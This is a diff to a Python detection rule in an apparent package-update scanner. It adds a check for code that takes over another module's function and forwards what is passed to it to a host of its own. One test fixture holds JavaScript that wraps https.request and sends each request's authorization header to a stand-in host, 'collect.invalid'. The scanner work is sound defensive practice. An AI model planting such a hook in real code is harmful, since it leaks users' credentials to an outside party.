@@ -18,15 +18,17 @@ Lines that always did it (transpilers, instrumentation, mocks); first contact, w
 
 from collections.abc import Iterator
 
+from lazaretto.core.destination import names_host
 from lazaretto.core.facts import Kind
 from lazaretto.core.finding import Card, Example, Finding
-from lazaretto.core.question import Tally, package_json, runs_by_itself
+from lazaretto.core.question import Tally, new_chains, package_json, runs_by_itself
 from lazaretto.core.update import Update
 
 CARD = Card(
     id="module-hook-added",
     title="Module loading or another module replaced",
     variants={
+        "taken-away": "What is handed to a function of another module goes to an address of the code's own.",
         "autorun": "Code that runs by itself replaces module loading or a function of another module.",
         "call": "A function replaces module loading or a function of another module.",
     },
@@ -61,6 +63,28 @@ EXAMPLES = (
         at="pad/__init__.py:5",
     ),
     Example(
+        title="what a program tells its own server is told to another as well",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const https = require('https');\nconst real = https.request;\n"
+            "https.request = function (options, answer) {\n"
+            "  real({ host: 'collect.invalid', path: '/' + options.headers.authorization }).end();\n"
+            "  return real(options, answer);\n};\nmodule.exports = (a) => a;\n",
+        },
+        expect="taken-away",
+        at="index.js:3",
+    ),
+    Example(
+        title="a method that older engines lack is filled in",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n]; };\n"
+            "module.exports = (a) => fetch('https://api.invalid/' + a);\n",
+        },
+    ),
+    Example(
         title="a tool that always replaced require",
         before={"package.json": package_json("1.0.0"), "index.js": _HOOK},
         after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "exports.version = 2;\n"},
@@ -77,6 +101,7 @@ EXAMPLES = (
 )
 
 _MESSAGES = {
+    "taken-away": "replaces another's function, and sends what is handed to it to an address of its own",
     "autorun": "replaces module loading or another module's function without being called",
     "call": "replaces module loading or another module's function when it is called",
 }
@@ -88,7 +113,12 @@ def detect(update: Update) -> Iterator[Finding]:
     for pair in update.pairs:
         if pair.before is None:
             continue
+        gone = set()
+        for chain, _ in new_chains(pair, (Kind.MODULE_HOOK,), (Kind.NET_CONNECT,)):
+            if chain.data and names_host(chain.sink.fact.value):
+                gone.add((chain.source.path, chain.source.fact))
+                tally.add("taken-away", pair, chain.source, chain.sink)
         for placed in pair.gained(Kind.MODULE_HOOK):
-            if pair.is_new_kind(placed):
+            if pair.is_new_kind(placed) and (placed.path, placed.fact) not in gone:
                 tally.add("autorun" if runs_by_itself(placed) else "call", pair, placed)
     yield from tally.findings(_MESSAGES)
